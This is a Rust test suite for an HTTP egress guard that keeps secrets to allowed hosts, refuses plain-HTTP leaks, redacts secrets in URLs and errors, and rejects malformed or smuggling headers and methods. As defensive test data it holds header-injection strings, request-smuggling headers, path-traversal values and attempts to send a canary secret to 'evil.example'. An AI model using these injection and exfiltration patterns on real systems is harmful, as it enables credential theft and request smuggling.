//! Secrets go where they may, over what they may, and into no error.

use graphloom::host::{EgressError, HttpRequest, SECRET_IN_PATH};

use crate::harness::{Names, client, get, is_refused, secret, send, text};
use crate::stub::{Response, Server};

#[tokio::test]
async fn a_secret_goes_only_to_its_hosts() {
    let server = Server::start(|_| Response::new(200, "ok"));
    let port = server.address.port();
    let names = Names::new()
        .with("api.example", &[&["127.0.0.1"]])
        .with("evil.example", &[&["127.0.0.1"]]);
    let client = client(&names, &["*.example:*"]);
    let key = || secret("canary-0123456789", &[&format!("api.example:{port}")]);
    let to = |host: &str| HttpRequest::new("POST", format!("http://{host}:{port}/"));
    let mut body = to("evil.example");
    body.body = graphloom::host::Body::Secret(key());
    for request in [
        to("evil.example").header("authorization", key()),
        to("evil.example").query("key", key()),
        body,
        to("api.example").header("a", secret("canary-0123456789", &[])),
    ] {
        let sent = send(&client, request).await;
        let Err(EgressError::Refused { message }) = sent else {
            panic!("{sent:?}")
        };
        assert!(
            message.contains("example") && message.contains("--host"),
            "{message}"
        );
        assert!(!message.contains("canary"), "{message}");
    }
    assert!(server.requests().is_empty());
    text(&client, to("api.example").header("authorization", key()))
        .await
        .unwrap();
    assert_eq!(
        server.requests()[0].header("authorization"),
        Some("canary-0123456789")
    );
}

#[tokio::test]
async fn over_plain_http_a_secret_stays_on_this_machine() {
    let server = Server::start(|_| Response::new(200, "ok"));
    let port = server.address.port();
    let names = Names::new()
        .with("far.example", &[&["192.0.2.1"]])
        .with("near.example", &[&["10.0.0.1"]])
        .with("mixed.example", &[&["10.0.0.1", "127.0.0.1"]]);
    let client = client(&names, &["near.example:*", "mixed.example:*", "10.0.0.1:*"]);
    let to = |host: &str| {
        get(format!("http://{host}:{port}/"))
            .header("authorization", secret("canary-0123456789", &["*:*"]))
    };
    for host in ["far.example", "near.example", "10.0.0.1", "127.0.0.1"] {
        let sent = send(&client, to(host)).await;
        assert!(is_refused(&sent), "{host}: {sent:?}");
    }
    assert_eq!(text(&client, to("mixed.example")).await.unwrap(), "ok");
}

#[tokio::test]
async fn no_error_and_no_address_shows_a_secret() {
    let server = Server::start(|_| Response::new(200, "ok"));
    let names = Names::new();
    let client = client(&names, &["*:*"]);
    let canary = "can/ary+01 23";
    let key = || secret(canary, &["*:*"]);
    // An address that was shown.
    let answer = send(&client, get(server.url("/?a=b")).query("key", key()))
        .await
        .unwrap();
    assert_eq!(answer.url.as_str(), server.url("/?a=b&key=%5Bredacted%5D"));
    let short = send(
        &client,
        get(server.url("/")).query("key", secret("abc", &["*:*"])),
    )
    .await
    .unwrap();
    assert!(!short.url.contains("abc"), "{}", short.url);
    // Errors: no name, nobody there, header lines that will not do.
    for request in [
        get("https://unknown.example/").query("key", key()),
        get("http://127.0.0.1:1/").query("key", key()),
        get(server.url("/")).header("x", secret("can\nary", &["*:*"])),
        get(server.url("/")).header("x", secret("can\0ary", &["*:*"])),
    ] {
        let error = send(&client, request).await.unwrap_err();
        let (shown, debug) = (error.to_string(), format!("{error:?}"));
        for text in [shown, debug] {
            assert!(!text.contains("can") && !text.contains("key="), "{text}");
        }
    }
}

#[tokio::test]
async fn header_lines_that_could_mean_more_are_refused() {
    let server = Server::start(|_| Response::new(200, "ok"));
    let client = client(&Names::new(), &["127.0.0.1:*"]);
    for (name, value) in [
        ("x", "a\r\nb: c"),
        ("x", "a\nb"),
        ("x", "a\rb"),
        ("x", "a\0b"),
        ("x\r\ny", "a"),
        ("x y", "a"),
        ("x:", "a"),
        ("", "a"),
        ("é", "a"),
        ("host", "evil.example"),
        ("Content-Length", "0"),
        ("Transfer-Encoding", "chunked"),
        ("connection", "upgrade"),
        ("proxy-authorization", "x"),
    ] {
        let sent = send(&client, get(server.url("/")).header(name, value)).await;
        assert!(
            matches!(sent, Err(EgressError::Request { .. })),
            "{name:?}: {value:?}"
        );
    }
    for method in ["CONNECT", "TRACE", "GET / HTTP/1.1\r\nx: y", "", "a b"] {
        let sent = send(&client, HttpRequest::new(method, server.url("/"))).await;
        assert!(
            matches!(sent, Err(EgressError::Request { .. })),
            "{method:?}"
        );
    }
    assert!(server.requests().is_empty());
    text(&client, get(server.url("/")).header("x", "häder\t"))
        .await
        .unwrap();
}

#[tokio::test]
async fn a_secret_in_the_path_is_one_part_of_it_and_not_shown() {
    let server = Server::start(|_| Response::new(200, "ok"));
    let port = server.address.port();
    let names = Names::new()
        .with("api.example", &[&["127.0.0.1"]])
        .with("evil.example", &[&["127.0.0.1"]]);
    let client = client(&names, &["*.example:*"]);
    let own = format!("api.example:{port}");
    let to = |host: &str, text: &str| {
        let url = format!("http://{host}:{port}/bot{SECRET_IN_PATH}/send");
        get(url).secret_in_path(secret(text, &[&own]))
    };
    let answer = send(&client, to("api.example", "7:can/../ary?a#b")).await;
    let answer = answer.unwrap();
    assert_eq!(
        answer.url.as_str(),
        format!("http://{own}/bot[redacted]/send")
    );
    let sent = server.requests();
    assert_eq!(sent[0].target, "/bot7:can%2F..%2Fary%3Fa%23b/send");
    // Elsewhere, in no path, and where none is asked for.
    let astray = get(format!("http://{SECRET_IN_PATH}.example/"));
    for request in [
        to("evil.example", "canary-0123456789"),
        to("api.example", ""),
        astray.secret_in_path(secret("api", &["*:*"])),
        get(format!("http://{own}/")).secret_in_path(secret("canary-0123456789", &["*:*"])),
        get(format!("http://{own}/{SECRET_IN_PATH}")),
    ] {
        let error = send(&client, request).await.unwrap_err().to_string();
        assert!(!error.contains("canary"), "{error}");
    }
    let dots =
        get(format!("http://{own}/{SECRET_IN_PATH}/a")).secret_in_path(secret("..", &["*:*"]));
    assert!(send(&client, dots).await.is_err());
    assert_eq!(server.requests().len(), 1);
}
